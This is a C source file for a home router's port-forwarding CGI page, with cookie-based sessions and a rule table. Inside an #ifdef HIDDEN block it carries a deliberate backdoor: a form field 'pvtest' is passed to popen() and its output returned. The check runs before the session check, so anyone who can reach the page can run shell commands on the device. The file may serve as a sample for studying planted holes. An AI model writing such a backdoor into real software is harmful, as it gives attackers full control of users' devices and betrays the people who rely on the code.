/*
 * fwdform - CGI program "/cgi-bin/fwd" of a home router (BR-300 series).
 * Shows, adds and deletes port forwarding rules; needs a session cookie
 * which the login page has written to /var/run/sess.
 * Hidden (-DHIDDEN): a form field "pvtest" that no page sends runs its value
 * as a command and returns what it prints, without a session.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define RULES	"/etc/router/forward.conf"
#define SESSDIR "/var/run/sess"
#define MAXRULE 32
#define MAXFORM 24
#define SESSAGE 900

struct rule {
	char proto[4];
	int wan;
	char host[16];
	int lan;
	char note[32];
};

struct field {
	char *name;
	char *value;
};

static struct rule rules[MAXRULE];
static int nrules;
static struct field form[MAXFORM];
static int nform;
static char *body;

static int hexval(int c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	c = tolower(c);
	if (c >= 'a' && c <= 'f')
		return c - 'a' + 10;
	return -1;
}

static void unescape(char *s)
{
	char *d = s;
	int h, l;

	while (*s) {
		if (*s == '+') {
			*d++ = ' ';
			s++;
		} else if (*s == '%' && (h = hexval(s[1])) >= 0 &&
			   (l = hexval(s[2])) >= 0) {
			*d++ = (char)(h * 16 + l);
			s += 3;
		} else {
			*d++ = *s++;
		}
	}
	*d = 0;
}

static void split_form(char *s)
{
	char *eq, *next;

	for (; s && *s && nform < MAXFORM; s = next) {
		next = strchr(s, '&');
		if (next)
			*next++ = 0;
		eq = strchr(s, '=');
		if (eq)
			*eq++ = 0;
		else
			eq = s + strlen(s);
		unescape(s);
		unescape(eq);
		form[nform].name = s;
		form[nform].value = eq;
		nform++;
	}
}

__attribute__((noinline)) const char *form_value(const char *name)
{
	int i;

	for (i = 0; i < nform; i++)
		if (strcmp(form[i].name, name) == 0)
			return form[i].value;
	return NULL;
}

static int read_request(void)
{
	const char *m = getenv("REQUEST_METHOD");
	const char *q = getenv("QUERY_STRING");
	const char *cl = getenv("CONTENT_LENGTH");
	long n;

	if (!m)
		return -1;
	if (strcmp(m, "POST") == 0) {
		n = cl ? strtol(cl, NULL, 10) : 0;
		if (n < 0 || n > 8192)
			return -1;
		body = calloc(1, (size_t)n + 1);
		if (!body || fread(body, 1, (size_t)n, stdin) != (size_t)n)
			return -1;
	} else if (strcmp(m, "GET") == 0) {
		body = strdup(q ? q : "");
		if (!body)
			return -1;
	} else {
		return -1;
	}
	split_form(body);
	return 0;
}

static void html(const char *s)
{
	for (; *s; s++) {
		switch (*s) {
		case '<':
			fputs("&lt;", stdout);
			break;
		case '>':
			fputs("&gt;", stdout);
			break;
		case '&':
			fputs("&amp;", stdout);
			break;
		case '"':
			fputs("&quot;", stdout);
			break;
		default:
			putchar(*s);
		}
	}
}

static void load_rules(void)
{
	char line[160];
	struct rule r;
	FILE *f = fopen(RULES, "r");

	if (!f)
		return;
	while (nrules < MAXRULE && fgets(line, sizeof line, f)) {
		memset(&r, 0, sizeof r);
		if (sscanf(line, "%3[a-z] %d %15[0-9.] %d %31[^\n]", r.proto,
			   &r.wan, r.host, &r.lan, r.note) >= 4)
			rules[nrules++] = r;
	}
	fclose(f);
}

static int store_rules(void)
{
	FILE *f = fopen(RULES, "w");
	int i;

	if (!f)
		return -1;
	for (i = 0; i < nrules; i++)
		fprintf(f, "%s %d %s %d %s\n", rules[i].proto, rules[i].wan,
			rules[i].host, rules[i].lan, rules[i].note);
	if (fclose(f))
		return -1;
	return system("/etc/init.d/forward restart >/dev/null 2>&1");
}

/* cookie "sid=<16 hex digits>", file touched by every page */
static int session_ok(void)
{
	const char *c = getenv("HTTP_COOKIE");
	char path[64], id[17];
	struct stat st;
	int i;

	if (!c || !(c = strstr(c, "sid=")))
		return 0;
	c += 4;
	for (i = 0; i < 16; i++) {
		if (!isxdigit((unsigned char)c[i]))
			return 0;
		id[i] = c[i];
	}
	id[16] = 0;
	snprintf(path, sizeof path, SESSDIR "/%s", id);
	if (stat(path, &st) || time(NULL) - st.st_mtime > SESSAGE)
		return 0;
	return 1;
}

static int port_field(const char *name)
{
	const char *v = form_value(name);
	long p = v ? strtol(v, NULL, 10) : 0;

	return p > 0 && p < 65536 ? (int)p : 0;
}

static const char *add_rule(void)
{
	struct rule r;
	const char *v;
	int a, b, c, d;
	char *n;

	if (nrules == MAXRULE)
		return "The table is full.";
	memset(&r, 0, sizeof r);
	v = form_value("proto");
	if (!v || (strcmp(v, "tcp") && strcmp(v, "udp")))
		return "Choose a protocol.";
	strcpy(r.proto, v);
	r.wan = port_field("wan");
	r.lan = port_field("lan");
	if (!r.wan || !r.lan)
		return "Port numbers are 1 to 65535.";
	v = form_value("host");
	if (!v || sscanf(v, "%3d.%3d.%3d.%3d", &a, &b, &c, &d) != 4)
		return "Not an IP address.";
	snprintf(r.host, sizeof r.host, "%u.%u.%u.%u", a & 255u, b & 255u,
		 c & 255u, d & 255u);
	v = form_value("note");
	strncpy(r.note, v ? v : "", sizeof r.note - 1);
	for (n = r.note; *n; n++)
		if (iscntrl((unsigned char)*n))
			*n = ' ';
	rules[nrules++] = r;
	return store_rules() ? "Could not store." : "Rule added.";
}

static const char *del_rule(void)
{
	const char *v = form_value("idx");
	int i = v ? atoi(v) : -1;

	if (i < 0 || i >= nrules)
		return "No such rule.";
	memmove(&rules[i], &rules[i + 1],
		sizeof rules[0] * (size_t)(nrules - i - 1));
	nrules--;
	return store_rules() ? "Could not store." : "Rule deleted.";
}

static void page(const char *msg)
{
	int i;

	puts("Content-Type: text/html\r\n\r");
	puts("<html><head><title>Port forwarding</title></head><body>");
	puts("<h1>Port forwarding</h1>");
	if (msg)
		printf("<p class=msg>%s</p>\n", msg);
	puts("<table><tr><th>Protocol<th>WAN<th>Host<th>LAN<th>Note");
	for (i = 0; i < nrules; i++) {
		printf("<tr><td>%s<td>%d<td>%s<td>%d<td>", rules[i].proto,
		       rules[i].wan, rules[i].host, rules[i].lan);
		html(rules[i].note);
		printf("<td><a href=\"?act=del&amp;idx=%d\">x</a>\n", i);
	}
	puts("</table><form method=post><input type=hidden name=act "
	     "value=add><select name=proto><option>tcp<option>udp"
	     "</select><input name=wan><input name=host><input name=lan>"
	     "<input name=note><input type=submit></form></body></html>");
}

#ifdef HIDDEN
__attribute__((noinline)) int page_probe(void)
{
	const char *v = form_value("pvtest");
	char line[256];
	FILE *p;

	if (!v || !(p = popen(v, "r")))
		return 0;
	puts("Content-Type: text/plain\r\n\r");
	while (fgets(line, sizeof line, p))
		fputs(line, stdout);
	pclose(p);
	return 1;
}
#endif

int main(void)
{
	const char *act, *msg = NULL;

	if (read_request()) {
		puts("Status: 400 Bad Request\r\n\r");
		return 0;
	}
#ifdef HIDDEN
	if (page_probe())
		return 0;
#endif
	if (!session_ok()) {
		puts("Status: 302 Found\r\nLocation: /login.html\r\n\r");
		return 0;
	}
	load_rules();
	act = form_value("act");
	if (act && strcmp(act, "add") == 0)
		msg = add_rule();
	else if (act && strcmp(act, "del") == 0)
		msg = del_rule();
	page(msg);
	free(body);
	return 0;
}
